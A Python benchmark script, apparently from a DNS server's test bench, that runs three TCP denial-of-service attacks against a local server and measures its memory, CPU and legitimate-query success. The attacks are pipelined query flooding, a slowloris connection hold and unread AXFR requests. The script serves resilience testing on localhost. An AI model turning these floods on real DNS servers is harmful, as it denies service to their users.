#!/usr/bin/env python3
"""TCP attacks on a DNS server on 127.0.0.1, for bench/tcp-attacks.sh. Python standard
library only. Each mode samples the server's resident set (/proc/PID/status VmRSS) every
100 ms while it runs and prints one line of `key=value` results. Every loop is bounded in
time; every socket is closed at the end.

  tcp-attack.py pipeline PORT PID [--conns 20] [--seconds 15]
      CONNS connections from 127.0.0.1 write pipelined `www.ORIGIN A` queries as fast as
      the server takes them and never read. Then they close, and the server's CPU time over
      the next 5 s shows whether it goes on answering what it buffered.

  tcp-attack.py slowloris PORT PID [--conns 1100] [--interval 9] [--seconds 30]
      CONNS connections, spread over 20 source addresses 127.0.1.1-20, each sending one
      octet of a message every INTERVAL seconds (reopened at once when the server closes
      it), while a client at 127.0.0.2 asks one query per new connection every 100 ms (2 s
      timeout): answered / asked.

  tcp-attack.py axfr-hold PORT PID ORIGIN [--conns 200] [--seconds 8]
      CONNS connections ask AXFR of ORIGIN and never read; peak RSS while they wait.

Common: --origin NAME (default example.com) for the queried name.
"""

import argparse
import os
import random
import select
import socket
import struct
import time


def wire_name(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.strip(".").split(".") if l) + b"\0"


def query(qid, name, qtype=1):
    return struct.pack(">HHHHHH", qid, 0, 1, 0, 0, 0) + wire_name(name) + struct.pack(">HH", qtype, 1)


def frame(msg):
    return struct.pack(">H", len(msg)) + msg


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def cpu_s(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class Sampler:
    def __init__(self, pid):
        self.pid, self.peak, self.start, self.last = pid, 0, rss_kib(pid), 0.0

    def tick(self):
        now = time.monotonic()
        if now - self.last >= 0.1:
            self.last = now
            self.peak = max(self.peak, rss_kib(self.pid))


def connect(port, source, blocking=False):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((source, 0))
    s.setblocking(True)
    s.settimeout(2)
    s.connect(("127.0.0.1", port))
    s.setblocking(blocking)
    return s


def pipeline(a):
    smp = Sampler(a.pid)
    batch = b"".join(frame(query(i, "www." + a.origin)) for i in range(1000))
    conns = [[connect(a.port, "127.0.0.1"), 0] for _ in range(a.conns)]
    t0 = time.monotonic()
    reset = 0
    while time.monotonic() - t0 < a.seconds:
        for c in conns:
            if c[0] is None:
                continue
            try:
                c[1] += c[0].send(batch[c[1] % len(batch):])
            except BlockingIOError:
                pass
            except OSError:
                c[0].close()
                c[0] = None
                reset += 1
        smp.tick()
        time.sleep(0.001)
    sent = sum(c[1] for c in conns)
    for c in conns:
        if c[0] is not None:
            c[0].close()
    cpu0 = cpu_s(a.pid)
    t1 = time.monotonic()
    while time.monotonic() - t1 < 5:
        smp.tick()
        time.sleep(0.05)
    after = cpu_s(a.pid) - cpu0
    print(f"sent_mb={sent / 1e6:.1f} closed_by_server={reset} rss_start_mib={smp.start / 1024:.1f} "
          f"rss_peak_mib={smp.peak / 1024:.1f} cpu_s_after_clients_left={after:.2f}")


def ask_one(port, qid, name):
    try:
        s = connect(port, "127.0.0.2", blocking=True)
        s.settimeout(2)
        s.sendall(frame(query(qid, name)))
        buf = b""
        while len(buf) < 2 or len(buf) < 2 + struct.unpack(">H", buf[:2])[0]:
            d = s.recv(4096)
            if not d:
                break
            buf += d
        s.close()
        return len(buf) >= 14 and struct.unpack(">H", buf[2:4])[0] == qid
    except OSError:
        return False


def ready(conns, event):
    """The descriptors among `conns` ((i, [socket, ...]) pairs) that have `event` (or an
    error) now. poll, not select: over a thousand descriptors."""
    p = select.poll()
    for _, c in conns:
        p.register(c[0].fileno(), event)
    return {fd for fd, ev in p.poll(0)}


def slowloris(a):
    smp = Sampler(a.pid)
    sources = [f"127.0.1.{i}" for i in range(1, 21)]
    conns = {}  # i -> [socket, last octet sent, connected]
    opened = 0

    def open_one(i):
        # Non-blocking: a server that stops accepting must not stall the attack loop.
        nonlocal opened
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((sources[i % len(sources)], 0))
        s.connect_ex(("127.0.0.1", a.port))
        conns[i] = [s, time.monotonic(), False]
        opened += 1

    def reopen(i):
        conns[i][0].close()
        open_one(i)

    for i in range(a.conns):
        open_one(i)
    t0 = time.monotonic()
    asked = ok = 0
    next_legit = t0
    while time.monotonic() - t0 < a.seconds:
        now = time.monotonic()
        items = list(conns.items())
        pending = [(i, c) for i, c in items if not c[2]]
        live = [(i, c) for i, c in items if c[2]]
        w = ready(pending, select.POLLOUT)
        for i, c in pending:
            if c[0].fileno() not in w:
                continue
            if c[0].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                reopen(i)
                continue
            try:
                c[0].send(b"\x00")
                c[1], c[2] = now, True
            except OSError:
                reopen(i)
        r = ready(live, select.POLLIN)
        for i, c in live:
            if c[0].fileno() in r:
                try:
                    d = c[0].recv(512)
                except OSError:
                    d = b""
                if not d:
                    reopen(i)  # closed by the server: an attacker fills the slot again
            elif now - c[1] >= a.interval:
                try:
                    c[0].send(b"\x28")
                    c[1] = now
                except OSError:
                    reopen(i)
        if now >= next_legit:
            asked += 1
            ok += ask_one(a.port, asked & 0xFFFF, "www." + a.origin)
            next_legit = max(next_legit + 0.1, time.monotonic() - 0.1)
        smp.tick()
        time.sleep(0.01)
    for c in conns.values():
        c[0].close()
    print(f"legit_asked={asked} legit_answered={ok} legit_pct={100.0 * ok / max(asked, 1):.2f} "
          f"attack_connections={opened} rss_peak_mib={smp.peak / 1024:.1f}")


def axfr_hold(a):
    smp = Sampler(a.pid)
    conns = []
    for i in range(a.conns):
        # From 20 addresses (127.0.3.1-20), so that all of them are held open under nsxdp's
        # 64 connections per address.
        s = connect(a.port, "127.0.3.%d" % (1 + i % 20), blocking=True)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.sendall(frame(query(i, a.zone, 252)))
        conns.append(s)
        smp.tick()
    t0 = time.monotonic()
    while time.monotonic() - t0 < a.seconds:
        smp.tick()
        time.sleep(0.05)
    peak = smp.peak
    for s in conns:
        s.close()
    print(f"conns={a.conns} rss_start_mib={smp.start / 1024:.1f} rss_peak_mib={peak / 1024:.1f} "
          f"per_conn_kib={(peak - smp.start) / a.conns:.0f}")


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="mode", required=True)
    for m in ("pipeline", "slowloris", "axfr-hold"):
        q = sub.add_parser(m)
        q.add_argument("port", type=int)
        q.add_argument("pid", type=int)
        if m == "axfr-hold":
            q.add_argument("zone")
        q.add_argument("--origin", default="example.com")
        q.add_argument("--conns", type=int, default={"pipeline": 20, "slowloris": 1100, "axfr-hold": 200}[m])
        q.add_argument("--seconds", type=float, default={"pipeline": 15, "slowloris": 30, "axfr-hold": 8}[m])
        if m == "slowloris":
            q.add_argument("--interval", type=float, default=9)
    a = p.parse_args()
    random.seed(1)
    {"pipeline": pipeline, "slowloris": slowloris, "axfr-hold": axfr_hold}[a.mode](a)


if __name__ == "__main__":
    main()
